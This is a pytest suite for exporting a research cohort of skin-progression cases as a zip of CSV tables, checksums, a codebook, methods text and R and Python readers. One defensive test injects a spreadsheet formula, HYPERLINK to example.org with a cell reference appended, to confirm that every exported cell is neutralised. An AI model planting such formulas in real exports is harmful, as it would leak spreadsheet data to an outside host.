"""One cohort as one zip, from the two published cases: what is in it, what never is, and that others can read it."""

import csv
import hashlib
import io
import json
import re
import runpy
import shutil
import subprocess
import uuid
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from cases.cohorts.members import Member, Parts, Selection, Unit
from cases.disclosure.rule import Count
from cases.disclosure.singling_out import Alike
from cases.episodes.outside import outside_of
from cases.exchange.tidy.archive import Archive, archive_of
from cases.exchange.tidy.methods import methods
from cases.exchange.tidy.tables import TABLES, rows_of
from cases.records.figure import first_dose
from cases.rules.definition import load_definition
from cases.rules.discordance import classify_document

pytestmark = pytest.mark.django_db

DATA = Path(__file__).parents[5] / "cases" / "exchange" / "data"
DEFINITION = load_definition("dcp")
RECEIPT = {"query": "of=episodes&definition=dcp@1.0.0"}


def published() -> list[dict]:
    return json.loads((DATA / "published-cases.json").read_text())


def outside(document: dict) -> dict:
    episodes = classify_document(document, DEFINITION)["episodes"]
    return outside_of(document, episodes, DEFINITION, first_dose(document)).document


def member(number: int, patient: int, **facts) -> Member:
    return Member(
        id=uuid.UUID(int=number),
        unit=Unit.EPISODES,
        patient=patient,
        institution="LIT",
        label="DCP_STRICT",
        certainty="PROBABLE",
        facts={"drug": ["pertuzumab", "trastuzumab"], "since": [30, 60], "line": 2, "inflammatory": True} | facts,
        course={},
        rules={"L1": "pass", "L2": "unknown"},
        near={},
    )


def selected(*members: Member) -> Selection:
    return Selection(
        unit=Unit.EPISODES,
        definition=DEFINITION,
        query=RECEIPT["query"],
        words="HER2 of the skin is low and label is “discordant, strict”",
        load=lambda: Parts(members, (), ()),
        number=lambda: len(members),
        shown=Count,
    )


@pytest.fixture
def archive(db) -> Archive:
    one, two = map(outside, published())
    members = member(1, 1), member(2, 2, extent=["REGIONAL"]), member(3, 2)
    return archive_of(selected(*members), {1: one, 2: two}, RECEIPT, "It was asked live.")


def table(archive: Archive, name: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(archive.files[f"tables/{name}.csv"].decode())))


def test_every_row_of_the_record_stands_in_its_table_once(archive):
    """The second case has two members, and is there once."""
    one, two = map(outside, published())
    assert len(table(archive, "cases")) == 2
    assert len(table(archive, "regimens")) == len(one["regimens"]) + len(two["regimens"])
    drugs = sum(len(regimen["drugs"]) for case in (one, two) for regimen in case["regimens"])
    assert len(table(archive, "regimens_drugs")) == drugs == archive.counts["regimens_drugs"]


def test_a_nested_row_names_the_row_that_it_belongs_to(archive):
    held = {(row["case"], row["row"]) for row in table(archive, "assessments")}
    inner = {(row["case"], row["under"]) for row in table(archive, "assessments_compartments")}
    assert inner
    assert inner <= held


def test_no_row_has_a_value_without_a_column():
    columns = {one.name: set(one.names) for one in TABLES}
    for document in map(outside, published()):
        for name, row in rows_of(document, "c1"):
            assert row.keys() <= columns[name], name


def test_a_quantity_keeps_its_bounds_and_its_unit(archive):
    written = {(row["analyte"], row["value_lo"], row["value_unit"]) for row in table(archive, "specimens_markers")}
    markers = [one for case in published() for specimen in case["specimens"] for one in specimen.get("markers", ())]
    given = [one for one in markers if isinstance(one.get("value"), dict) and one["value"].get("unit")]
    assert given
    assert {(one["analyte"], str(one["value"]["lo"]), one["value"]["unit"]) for one in given} <= written


def test_the_members_and_their_rules(archive):
    first = table(archive, "members")[0]
    assert {name: first[name] for name in ("member", "case", "drug", "since_lo", "since_hi", "line")} == {
        "member": "m00001",
        "case": "c00001",
        "drug": "pertuzumab; trastuzumab",
        "since_lo": "30",
        "since_hi": "60",
        "line": "2",
    }
    assert [(row["rule"], row["verdict"]) for row in table(archive, "rules")[:2]] == [("L1", "pass"), ("L2", "unknown")]


def test_the_checksums_are_those_of_the_files(archive):
    lines = dict(reversed(line.split("  ")) for line in archive.files["SHA256SUMS"].decode().splitlines())
    assert lines == {
        name: hashlib.sha256(content).hexdigest()
        for name, content in archive.files.items()
        if name not in ("SHA256SUMS", "manifest.json")
    }
    manifest = json.loads(archive.files["manifest.json"])
    assert {name: one["sha256"] for name, one in manifest["files"].items()} == lines


def test_the_same_cohort_gives_the_same_bytes(archive):
    again = Archive(dict(reversed(archive.files.items())), archive.alike)
    assert archive.zipped() == again.zipped()
    assert zipfile.ZipFile(io.BytesIO(archive.zipped())).testzip() is None


def test_every_column_is_in_the_codebook_and_no_other(archive):
    rows = csv.DictReader(io.StringIO(archive.files["codebook.csv"].decode()))
    named = {(row["table"], row["column"]) for row in rows}
    files = [name for name in archive.files if name.startswith("tables/")]
    there = {(Path(name).stem, column) for name in files for column in header(archive.files[name])}
    assert named == there


def header(content: bytes) -> list[str]:
    return next(csv.reader(io.StringIO(content.decode())))


def test_it_says_how_many_patients_look_alike(archive):
    assert archive.alike.smallest == 1
    assert archive.alike.patients == 2
    assert "k = 1); 2 of 2 patients" in archive.files["methods.txt"].decode()


def test_the_methods_name_the_definition_and_the_numbers(archive):
    text = archive.files["methods.txt"].decode()
    assert "3 episodes of skin progression of 2 patients at 1 institution" in text
    assert DEFINITION.hash in text
    assert (
        " We included the episodes of skin progression of which the following is true: HER2 of the skin is low and"
        " label is “discordant, strict”. Episodes were classified" in text
    )


def test_the_methods_say_that_nothing_was_asked():
    one = replace(selected(member(1, 1)), words="")
    text = methods(one, "It was asked live.", alike=Alike(1, 1, 1))
    assert " No filter was applied: all episodes of skin progression that could be read are in the cohort. " in text


BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def poisoned(value, text: str):
    """The same with another text for every text in it, so that each table has it wherever it can hold one."""
    if isinstance(value, dict):
        return {name: poisoned(one, text) for name, one in value.items()}
    if isinstance(value, list):
        return [poisoned(one, text) for one in value]
    return text if isinstance(value, str) else value


@pytest.mark.parametrize("begins", BEGINNINGS)
def test_no_cell_of_any_table_begins_like_a_formula_and_readers_get_the_text_back(begins, tmp_path):
    text = f'{begins}HYPERLINK("https://example.org/"&A1;"x"),1'
    facts = {"regimen": [text], "drug": [text, text], "since": [-3, 4], "note": text}
    one = Member(uuid.uuid4(), Unit.EPISODES, 1, text, text, text, facts, {}, {text: text}, {})
    made = archive_of(selected(one), {1: poisoned(outside(published()[0]), text)}, RECEIPT, "It was asked live.")
    sheets = {name: content.decode() for name, content in made.files.items() if name.startswith("tables/")}
    hostile = 0
    for sheet in sheets.values():
        for row in csv.reader(io.StringIO(sheet, newline="")):
            for cell in row:
                assert not cell.startswith(BEGINNINGS[:-1]) or NUMBER.fullmatch(cell)
                hostile += cell.startswith(f"'{text}")
    assert hostile > 50, "Free text, codes, institution, label, rule: wherever a text can stand."
    zipfile.ZipFile(io.BytesIO(made.zipped())).extractall(tmp_path)
    frames = runpy.run_path(str(tmp_path / "read_cohort.py"))["read_cohort"](str(tmp_path))
    assert list(frames["members"]["institution"]) == [text]


@pytest.fixture
def folder(archive, tmp_path) -> Path:
    zipfile.ZipFile(io.BytesIO(archive.zipped())).extractall(tmp_path)
    return tmp_path


def test_the_reader_for_python_reads_it(folder):
    frames: Mapping = runpy.run_path(str(folder / "read_cohort.py"))["read_cohort"](str(folder))
    members = frames["members"]
    assert list(members["since_lo"]) == [30, 30, 30]
    assert list(members["inflammatory"]) == [True, True, True]
    assert frames["assessments_compartments"].attrs["labels"]["status"]["PR"] == "Partial response"
    assert 0 in set(frames["regimens"]["start_lo"])


@pytest.mark.skipif(shutil.which("Rscript") is None, reason="R is not on this machine")
def test_the_reader_for_r_reads_it(folder):
    told = """
        source("read_cohort.R")
        with(read_cohort(), cat(
            nrow(members), sum(members$since_lo), sum(assessments_compartments$status == "Partial response"),
            0 %in% regimens$start_lo
        ))
    """
    found = subprocess.run(["Rscript", "-e", told], cwd=folder, capture_output=True, text=True, check=True)
    rows = json.loads((folder / "cases.json").read_text()).values()
    partial = sum(
        one["status"] == "PR" for case in rows for at in case["assessments"] for one in at.get("compartments") or ()
    )
    assert found.stdout.split() == ["3", "90", str(partial), "TRUE"]
